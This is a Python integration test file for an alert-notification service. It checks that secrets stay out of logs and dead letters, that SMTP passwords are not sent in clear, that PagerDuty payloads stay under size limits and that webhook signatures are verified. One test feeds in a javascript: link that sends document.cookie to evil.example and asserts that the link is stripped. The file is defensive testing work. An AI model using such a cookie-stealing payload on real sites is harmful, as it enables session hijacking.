"""What notify sends out, and what it writes down, as someone hostile would probe it.

Secrets come from files and are re-read when the file changes; a secret
planted in a Slack URL never reaches the worker's log or a dead letter (the
worker runs as the real ``corral notify`` process, and its stderr is grepped);
a ``javascript:`` link from an alert never reaches a page; a PagerDuty event
stays under PagerDuty's 512 KB and says what it left out; an SMTP password
never travels without TLS unless the config allows it.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from aiohttp import web

from shared.config import KafkaSettings
from shared.messages import AlertStatus, DeadLetter, IncidentAlert
from tests.helpers import RecordingServer, read_topic, running
from tests.integration.notify_fakes import (
    FAST_RETRY,
    PagerDutyFake,
    SmtpFake,
    incident,
    notify_worker,
    one_receiver,
    publish,
)

pytestmark = pytest.mark.broker

SLACK_TOKEN = "xoxb-PLANTED-7d1f0c2e9b"


async def dead_letters(kafka: KafkaSettings, count: int, timeout: float = 30.0) -> list[DeadLetter]:
    async with asyncio.timeout(timeout):
        while True:
            found = await read_topic(kafka, kafka.topics.dead_letters)
            if len(found) >= count:
                return [DeadLetter.from_bytes(value) for value in found]
            await asyncio.sleep(0.2)


async def test_secret_files_are_read_at_start_and_again_when_they_change(
    kafka: KafkaSettings, tmp_path: Path
) -> None:
    hook = await RecordingServer().start()
    pagerduty = await PagerDutyFake().start()
    files = {
        "url": hook.url("/hook/one"),
        "token": "first-token",
        "hmac": "first-hmac",
        "routing": "ROUTING-KEY-FROM-FILE",
    }
    for name, value in files.items():
        (tmp_path / name).write_text(value + "\n")
    config = {
        "route": {"receiver": "both"},
        "receivers": [
            {
                "name": "both",
                "webhook_configs": [
                    {
                        "url_file": str(tmp_path / "url"),
                        "http_config": {
                            "authorization": {"credentials_file": str(tmp_path / "token")}
                        },
                        "hmac_secret_file": str(tmp_path / "hmac"),
                    }
                ],
                "pagerduty_configs": [
                    {"routing_key_file": str(tmp_path / "routing"), "url": pagerduty.url()}
                ],
            }
        ],
    }
    await publish(kafka, incident(revision=1))
    async with running(notify_worker(kafka, config)):
        first = await hook.next()
        assert first.path == "/hook/one"
        assert first.headers["Authorization"] == "Bearer first-token"
        assert (await pagerduty.next()).json()["routing_key"] == "ROUTING-KEY-FROM-FILE"

        # Kubernetes rewrites a mounted Secret in place: the next send uses it.
        (tmp_path / "url").write_text(hook.url("/hook/two"))
        (tmp_path / "token").write_text("second-token")
        await publish(kafka, incident(revision=2, priority="P2"))
        second = await hook.next()
        assert second.path == "/hook/two"
        assert second.headers["Authorization"] == "Bearer second-token"
    await hook.stop()
    await pagerduty.stop()


async def test_a_missing_secret_file_stops_the_worker_naming_it(
    kafka: KafkaSettings, tmp_path: Path
) -> None:
    from shared.config import ConfigError

    missing = tmp_path / "nope"
    config = one_receiver("hook", webhook_configs=[{"url_file": str(missing)}])
    worker = notify_worker(kafka, config)
    with pytest.raises(ConfigError, match=rf"url_file: {missing}: cannot read"):
        await worker.start()
    await worker.close()


class RedirectLoop(RecordingServer):
    """A Slack stand-in that redirects every request to itself: aiohttp gives
    up with an error whose text holds the whole URL, token and all."""

    async def _handle(self, request: web.Request) -> web.Response:
        raise web.HTTPFound(str(request.url))


async def test_a_planted_secret_reaches_neither_logs_nor_dead_letters(
    kafka: KafkaSettings, tmp_path: Path
) -> None:
    slack = await RedirectLoop().start()
    url_file = tmp_path / "slack-url"
    url_file.write_text(f"http://127.0.0.1:{slack.port}/services/T0/B0/{SLACK_TOKEN}")
    suffix = kafka.topics.incidents.rsplit(".", 1)[-1]
    config = {
        "kafka": kafka.model_dump(mode="json"),
        "log": {"level": "debug"},
        "notify": {
            "listen": "127.0.0.1:0",
            "group_id": f"notify-{suffix}",
            "retry": {**FAST_RETRY, "max_elapsed": "1s"},
            **one_receiver("chat", slack_configs=[{"api_url_file": str(url_file)}]),
        },
    }
    config_file = tmp_path / "corral.yml"
    config_file.write_text(yaml.safe_dump(config))
    log_file = tmp_path / "notify.log"
    await publish(kafka, incident())
    with log_file.open("wb") as log:
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "services.corral.cli", "notify", "--config", str(config_file),
            stdout=log, stderr=log,
        )  # fmt: skip
        try:
            [letter] = await dead_letters(kafka, 1, timeout=60)
        finally:
            process.terminate()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(process.wait(), 30)
            await slack.stop()

    logged = log_file.read_text()
    assert "TooManyRedirects" in logged  # the failure was logged...
    assert SLACK_TOKEN not in logged  # ...without the token...
    assert "/services/T0" not in logged  # ...or the URL's path
    assert f"127.0.0.1:{slack.port}/<secret>" in letter.reason
    raw = b"".join(await read_topic(kafka, kafka.topics.dead_letters))
    assert SLACK_TOKEN.encode() not in raw


async def test_only_http_links_from_alert_content_reach_a_page(
    kafka: KafkaSettings, tmp_path: Path
) -> None:
    slack = await RecordingServer().start()
    pagerduty = await PagerDutyFake().start()
    smtp = SmtpFake(tmp_path).start()
    hostile = IncidentAlert(
        fingerprint="0123456789abcdef",
        status=AlertStatus.FIRING,
        labels={"alertname": "DiskFull", "team": "storage"},
        annotations={"summary": "disk full"},
        generator_url="javascript:fetch('https://evil.example/'+document.cookie)",
    )
    config = one_receiver(
        "everyone",
        slack_configs=[{"api_url": slack.url("/services/T/B/X")}],
        pagerduty_configs=[{"routing_key": "k", "url": pagerduty.url()}],
        email_configs=[
            {
                "to": "oncall@example.com",
                "from": "corral@example.com",
                "smarthost": f"127.0.0.1:{smtp.port}",
                "auth_username": "corral",
                "auth_password": "s3cret",
                "tls_config": {"ca_file": str(smtp.cert)},
            }
        ],
    )
    await publish(kafka, incident(alerts=[hostile]))
    try:
        async with running(notify_worker(kafka, config)):
            message = (await slack.next()).json()
            event = (await pagerduty.next()).json()
            mail = await smtp.next()
    finally:
        smtp.stop()
        await slack.stop()
        await pagerduty.stop()
    assert "javascript" not in json.dumps(message)
    assert [b["type"] for b in message["blocks"]] == ["header", "section", "context"]
    assert "javascript" not in json.dumps(event)
    assert "links" not in event and "client_url" not in event
    body = mail.get_body(("html",))
    assert body is not None
    html = body.get_content()
    assert "javascript" not in html and "href" not in html


async def test_pagerduty_events_stay_under_512_kb_and_say_what_they_left_out(
    kafka: KafkaSettings,
) -> None:
    pagerduty = PagerDutyFake()
    await pagerduty.start()
    alerts = [
        IncidentAlert(
            fingerprint=f"{i:016x}",
            status=AlertStatus.FIRING,
            labels={"alertname": "PodCrashLooping", "pod": f"api-{i}"},
            annotations={f"note{n}": "x" * 1000 for n in range(5)},
        )
        for i in range(300)
    ]
    config = one_receiver("pager", pagerduty_configs=[{"routing_key": "k", "url": pagerduty.url()}])
    await publish(kafka, incident(alerts=alerts))
    async with running(notify_worker(kafka, config)):
        request = await pagerduty.next()
    await pagerduty.stop()
    assert len(request.body) < 512 * 1024
    assert pagerduty.pages == 1  # accepted: 202
    details: dict[str, Any] = request.json()["payload"]["custom_details"]
    assert 0 < len(details["firing"]) < 300
    left_out = 300 - len(details["firing"])
    assert f"{left_out} of 300 firing alerts left out" in details["truncated"]
    assert "512 KB" in details["truncated"]


# aiosmtpd's own warning about the server this test needs.
@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
async def test_smtp_auth_is_never_sent_in_clear_unless_the_config_says_so(
    kafka: KafkaSettings, tmp_path: Path
) -> None:
    smtp = SmtpFake(tmp_path, tls=False).start()
    common = {
        "to": "oncall@example.com",
        "from": "corral@example.com",
        "smarthost": f"127.0.0.1:{smtp.port}",
        "auth_username": "corral",
        "auth_password": "s3cret",
        "require_tls": False,
    }
    config = one_receiver("mail", email_configs=[common, {**common, "insecure_auth": True}])
    await publish(kafka, incident())
    try:
        async with running(notify_worker(kafka, config)):
            mail = await smtp.next()
            [letter] = await dead_letters(kafka, 1)
    finally:
        smtp.stop()
    assert "email/1" in mail["Message-ID"]
    assert smtp.logins == ["corral"]  # once, by the integration that allows it
    assert letter.integration == "email/0"
    assert "refusing to send the SMTP password in clear" in letter.reason
    assert not letter.retryable


def documented_verify() -> Any:
    """The receiver-side check from docs/security.md, run as written there."""
    text = (Path(__file__).resolve().parents[2] / "docs" / "security.md").read_text()
    section = text.split("## Checking a webhook's signature", 1)[1]
    code = section.split("```python\n", 1)[1].split("```", 1)[0]
    namespace: dict[str, Any] = {}
    exec(compile(code, "docs/security.md", "exec"), namespace)
    return namespace["verify"]


async def test_the_documented_receiver_accepts_corral_and_refuses_replays(
    kafka: KafkaSettings, tmp_path: Path
) -> None:
    (tmp_path / "hmac").write_text("shared-secret-for-docs")
    hook = await RecordingServer().start()
    config = one_receiver(
        "hook", webhook_configs=[{"url": hook.url(), "hmac_secret_file": str(tmp_path / "hmac")}]
    )
    await publish(kafka, incident())
    async with running(notify_worker(kafka, config)):
        request = await hook.next()
    await hook.stop()
    verify = documented_verify()
    secret = b"shared-secret-for-docs"
    assert verify(secret, request.headers, request.body)
    sent = int(request.headers["X-Corral-Timestamp"])
    assert not verify(secret, request.headers, request.body, now=sent + 600)  # a replay
    assert not verify(secret, request.headers, request.body.replace(b"inc-1", b"inc-2"))
    assert not verify(b"another secret", request.headers, request.body)
    forged = {**request.headers, "X-Corral-Timestamp": str(sent + 1)}
    assert not verify(secret, forged, request.body)
